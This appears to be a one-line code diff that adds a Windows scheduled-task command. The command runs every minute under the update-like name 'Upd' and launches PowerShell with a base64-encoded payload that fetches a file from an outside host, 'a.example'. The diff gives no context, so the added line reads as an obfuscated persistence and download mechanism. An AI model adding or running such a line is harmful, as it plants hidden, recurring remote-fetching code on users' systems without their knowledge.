@@ -1,0 +1,1 @@
+schtasks /create /tn Upd /sc minute /tr "powershell -e aQB3AHIAIABoAHQAdABwADoALwAvAGEALgBlAHgAYQBtAHAAbABlAC8AcAAvAHgALgB0AHgAdAA="
